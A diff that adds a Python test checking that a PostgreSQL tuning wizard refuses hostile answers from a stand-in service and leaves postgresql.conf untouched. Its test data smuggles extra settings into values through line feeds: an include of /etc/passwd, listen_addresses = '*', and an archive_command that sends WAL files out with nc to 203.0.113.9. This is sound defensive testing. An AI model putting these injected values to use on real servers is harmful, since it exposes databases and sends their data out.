@@ -1,0 +1,123 @@
+"""Hostile answers through the whole run: whoever answers as the tuning service must not be able
+to write into postgresql.conf. Each answer gives the error, the usage page stays, the
+configuration file is byte-for-byte as it was and no backup is made.
+
+The answers come from a stand-in (stand_in_service.py): the real service never sends them.
+One wizard run goes through every answer, as a user pressing Next again would; a sound answer
+at the end shows that the stand-in itself is not what fails.
+"""
+
+import os
+import subprocess
+import sys
+import time
+import unittest
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+
+import cluster as pg  # noqa: E402
+import driver  # noqa: E402
+import road  # noqa: E402
+import stand_in_service  # noqa: E402
+from stand_in_service import hex_text, inner_arrays, pairs_with  # noqa: E402
+
+PELLORAN = os.environ.get("PELLORAN_BINARY", "pelloran")
+LIST_MODIFIED = "Quorvel variables list has been modified."
+EMPTY_ARRAY = '<item xsi:type="SOAP-ENC:Array" SOAP-ENC:arrayType="xsd:string[2]"></item>'
+
+HOSTILE = [
+    ("a line feed and an include", pairs_with(shared_buffers="1GB\ninclude '/etc/passwd'"), None),
+    ("a line feed and two more settings",
+     pairs_with(work_mem="4MB\nlisten_addresses = '*'\narchive_command = 'nc 203.0.113.9 25 < %p'"), None),
+    ("a quote and a comment", pairs_with(autovacuum="on' # "), None),
+    ("hyphens", pairs_with(max_connections="----"), None),
+    ("four million digits", pairs_with(effective_cache_size="9" * 4000000), None),
+    ("17 empty two-item arrays", None, EMPTY_ARRAY * 17),
+    ("a value that does not decode", None,
+     inner_arrays((hex_text(name), "34\nG" if name == "work_mem" else hex_text(value))
+                  for name, value in stand_in_service.SOUND_VALUES)),
+]
+
+
+def wait_for_error_box(program, timeout=60):
+    """The next error box and its texts; fails at once when the run goes on instead."""
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        for window in program.windows():
+            if window.role == "alert":
+                return window, [n.name for n in window.descendants()
+                                if n.role == "label" and n.name]
+        if road.current_page(program) not in (None, "usage"):
+            raise driver.DriverError("the answer was taken: on the %s page" % road.current_page(program))
+        time.sleep(0.1)
+    raise driver.DriverError("no error box after %s s; texts: %r" % (timeout, program.texts()))
+
+
+class HostileAnswersTest(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.folder = driver.TempDir()
+        cls.cluster = pg.Cluster(cls.folder.path).create()
+        cls.registry = os.path.join(cls.folder.path, "machine.reg")
+        cls.list_text = cls.cluster.registry(cls.registry)
+        cls.stand_in = stand_in_service.StandInService(cls.folder.path).start()
+        cls.desktop = driver.Desktop()
+        cls.desktop.start()
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.desktop.stop()
+        cls.stand_in.stop()
+        cls.folder.__exit__()
+
+    def test_every_hostile_answer_keeps_the_usage_page_and_the_file(self):
+        before = driver.folder_snapshot(self.cluster.data)
+        errors = os.path.join(self.folder.path, "wizard.err")
+        env = {"PELLORAN_REGISTRY": self.registry,
+               "XDG_CONFIG_HOME": os.path.join(self.folder.path, "config")}
+        env.update(self.stand_in.environment())
+        with open(errors, "wb") as standard_error:
+            program = driver.Program([PELLORAN], env=env, stdout=subprocess.DEVNULL,
+                                     stderr=standard_error)
+        self.addCleanup(program.kill)
+        road.wait_for_page(program, "welcome")
+        road.leave_welcome(program, self.list_text)
+        program.find("radio button", "Dedicated").click()
+
+        for description, pairs, raw_items in HOSTILE:
+            with self.subTest(description):
+                self.assertEqual(road.current_page(program), "usage", "an earlier answer was taken")
+                self.stand_in.pairs = pairs or stand_in_service.SOUND_VALUES
+                self.stand_in.raw_items = raw_items
+                fetches = self.stand_in.operations.count("getQuorvelInfo")
+                program.click_button("Next >")
+                window, labels = wait_for_error_box(program)
+                self.assertTrue(any(label.startswith(LIST_MODIFIED) for label in labels), labels)
+                title = window.name
+                program.click_button("OK", within=window)
+                program.wait_gone("alert", title)
+                self.assertEqual(road.current_page(program), "usage")
+                self.assertEqual(self.stand_in.operations.count("getQuorvelInfo"), fetches + 1)
+                self.assertEqual(driver.folder_snapshot(self.cluster.data), before,
+                                 "the data folder changed (file or backup)")
+
+        # The same stand-in with sound values: the run goes on.
+        self.stand_in.pairs = stand_in_service.SOUND_VALUES
+        self.stand_in.raw_items = None
+        program.click_button("Next >")
+        road.wait_for_page(program, "review", timeout=120)
+        road.cancel(program, "Yes")
+        self.assertEqual(program.wait(), 0)
+        self.assertEqual(driver.folder_snapshot(self.cluster.data), before)
+
+        # What the decoder reports reaches the terminal escaped and short.
+        with open(errors, "rb") as handle:
+            printed = handle.read()
+        self.assertIn(b"Invalid Hex String:(null)\n", printed)
+        self.assertIn(b"Invalid Hex String:34\\x0AG\n", printed)
+        self.assertLess(len(printed), 10000)
+        self.assertFalse(set(printed) & (set(range(32)) - {10}), "a control character on standard error")
+
+
+if __name__ == "__main__":
+    unittest.main(verbosity=2, warnings="ignore")
